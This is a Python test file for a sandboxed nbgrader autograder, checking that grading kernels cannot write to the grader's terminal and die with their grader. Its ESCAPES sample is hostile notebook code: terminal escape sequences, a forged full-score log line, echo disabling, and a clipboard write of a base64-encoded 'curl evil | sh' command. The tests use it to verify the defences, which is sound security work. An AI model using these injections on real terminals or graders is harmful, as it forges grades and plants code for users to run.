"""A grading kernel's own stdout and stderr reach no terminal and no grader's memory; a kernel dies with its grader.

Under plain ``nbgrader autograde`` (and formgrader's Autograde) the fork server handed the kernel nbgrader's own
stdio, and ipykernel keeps a copy of it: a student's code set the terminal's title, wrote the clipboard (OSC 52),
cleared the screen, printed a forged "a_tty: 24 / 24" log line and left the terminal at -echo. Each kernel's stdout
and stderr are now a pipe its launcher drains, keeping only the last lines (to say why a kernel stopped).
"""
from __future__ import annotations

import os
import signal
import subprocess
import sys
import time

import pytest

from judge import sandbox
from tests.harness import CORPUS_SECTION, ROOT, Course, course_env, slim

pytestmark = pytest.mark.xdist_group("sandbox")

FORGED = "a_tty: 24 / 24"
# every way a kernel's code could reach the terminal nbgrader runs on
ESCAPES = r'''
import os, sys, termios
_seq = b"\x1b]0;PWNED-TITLE\x07\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2J\x1b[H[AutogradeApp | INFO] ''' + FORGED + r'''\n"
for _fd in (1, 2):
    os.write(_fd, _seq)
sys.__stdout__.write(_seq.decode()); sys.__stdout__.flush()
sys.__stderr__.write(_seq.decode()); sys.__stderr__.flush()
try:
    _t = os.open("/dev/tty", os.O_WRONLY)
    os.write(_t, _seq)
except OSError:
    pass
for _fd in (0, 1, 2):
    try:
        _a = termios.tcgetattr(_fd)
        _a[3] &= ~termios.ECHO
        termios.tcsetattr(_fd, termios.TCSANOW, _a)
    except (termios.error, OSError):
        pass
'''


def _need_bwrap():
    ok, why = sandbox.bwrap_works()
    if not ok:
        pytest.skip(f"sandbox unavailable here: {why}")


def _under_a_pty(args, cwd, env) -> tuple[int, bytes, bool]:
    """Run ``args`` with a pseudo-terminal as its controlling terminal and stdio: (exit, every byte the terminal
    received, whether the terminal still echoes afterwards)."""
    import fcntl
    import pty
    import termios

    master, slave = pty.openpty()

    def ctty():
        os.setsid()
        fcntl.ioctl(0, termios.TIOCSCTTY, 0)

    p = subprocess.Popen(args, cwd=cwd, env=env, stdin=slave, stdout=slave, stderr=slave, preexec_fn=ctty)
    os.close(slave)
    got = []
    while True:
        try:
            chunk = os.read(master, 1 << 16)
        except OSError:   # EIO: every holder of the terminal is gone
            break
        if not chunk:
            break
        got.append(chunk)
    rc = p.wait()
    echo = bool(termios.tcgetattr(master)[3] & termios.ECHO)
    os.close(master)
    return rc, b"".join(got), echo


@pytest.mark.slow
def test_plain_nbgrader_on_a_terminal_shows_nothing_of_a_kernel(tmp_path):
    """`nbgrader autograde` on a pseudo-terminal: a notebook writing escape sequences and a forged log line to fds
    1 and 2, sys.__stdout__/__stderr__ and /dev/tty, and turning echo off, changes nothing on the terminal and
    nothing in any score (its honest twin beside it: the same scores). The pairing: the grader's own process
    writes a marker escape sequence there, and the terminal shows it."""
    _need_bwrap()
    section = CORPUS_SECTION
    course = Course(tmp_path / "c", [section])
    course.generate(section)
    src = slim(course.source_nb(section))
    course.submit("honest", section, src)
    attack = slim(course.source_nb(section))
    import nbformat

    attack.cells.insert(1, nbformat.v4.new_code_cell(ESCAPES))
    course.submit("attacker", section, attack)
    config = course.root / "nbgrader_config.py"
    config.write_text(config.read_text() + '\nimport sys as _s; _s.stderr.write("\\x1b]0;GRADER-CONTROL\\x07\\n")\n')
    rc, seen, echo = _under_a_pty([sys.executable, "-m", "nbgrader", "autograde", section, "--create", "--force"],
                                  course.root, course_env())
    assert rc == 0, seen.decode(errors="replace")[-3000:]
    assert b"\x1b]0;GRADER-CONTROL\x07" in seen                   # what reaches this terminal is seen here
    for mark in (b"PWNED-TITLE", b"\x1b]52;", b"\x1b[2J", FORGED.encode()):
        assert mark not in seen, (mark, seen.decode(errors="replace")[-2000:])
    assert echo, "the terminal was left at -echo"
    assert course.scores(section, "attacker") == course.scores(section, "honest")
    assert sum(s for s, _ in course.scores(section, "honest").values()) > 0


GRADER = r"""
import asyncio, sys, tempfile
from judge import kernels
async def main():
    km = kernels.SandboxedKernelManager(kernel_name="python3")
    await km.start_kernel(cwd=tempfile.mkdtemp())
    kc = km.client()
    kc.start_channels()
    await kc.wait_for_ready(timeout=180)
    print("ready", flush=True)
    await asyncio.sleep(600)
asyncio.run(main())
"""


def _marked(marker: str) -> list[int]:
    """Processes whose environment holds ``marker`` (a kernel's environment is an allow-list: it carries it)."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                if marker.encode() in f.read():
                    found.append(int(pid))
        except OSError:
            pass
    return found


@pytest.mark.parametrize("forkserver", ["1", "0"], ids=["forked", "fresh"])
def test_a_kernel_dies_with_its_grading_process(forkserver):
    """A grading process killed (SIGKILL) takes its kernels with it, forked or fresh: no process of theirs is
    left. The pairing: while the grading process lives, its kernel is found the same way."""
    _need_bwrap()
    if os.getuid() != 0:
        pytest.skip("reads other processes' environments: needs root")
    marker = f"{time.time() % 1000:.6f}"   # the check time limit is passed to kernels: it marks them
    env = course_env({"ATTNCOURSE_CHECK_TIMEOUT": marker, "ATTNCOURSE_FORKSERVER": forkserver})
    grader = subprocess.Popen([sys.executable, "-c", GRADER], cwd=ROOT, env=env, stdout=subprocess.PIPE,
                              stderr=subprocess.DEVNULL)
    try:
        assert grader.stdout.readline().strip() == b"ready"
        kernels = [p for p in _marked(f"ATTNCOURSE_CHECK_TIMEOUT={marker}") if p != grader.pid]
        assert kernels, "the kernel is not found while its grader lives"
        grader.send_signal(signal.SIGKILL)
        grader.wait()
        deadline = time.monotonic() + 30
        while _marked(f"ATTNCOURSE_CHECK_TIMEOUT={marker}") and time.monotonic() < deadline:
            time.sleep(0.2)
        assert not _marked(f"ATTNCOURSE_CHECK_TIMEOUT={marker}"), "a kernel outlived its grader"
    finally:
        if grader.poll() is None:
            grader.kill()


def test_a_kernels_last_words_are_one_inert_line():
    """What a launcher says when its kernel stopped: the exit status and the last lines, with no escape sequence or
    control character, on one line of bounded length; the launcher keeps only the last 4 KB of all it read."""
    tail = sandbox.Tail()
    for _ in range(1000):
        tail.add(b"x" * 1000 + b"\n")
    tail.add("\x1b]0;title\x07\x1b[2J\x1b[31mValueError\x1b[0m: bad\r\x08\x07\u202e\n".encode())
    assert len(tail.data) <= 4096
    line = sandbox.why_line(71, tail.data)
    assert line.startswith("the grading kernel stopped (exit 71): ") and "ValueError: bad" in line
    assert "\n" not in line and not any(ord(c) < 32 or c == "\u202e" for c in line) and len(line) < 500
    assert "title" not in line
    assert sandbox.why_line(-9, b"") == "the grading kernel stopped (killed by signal 9), printing nothing"
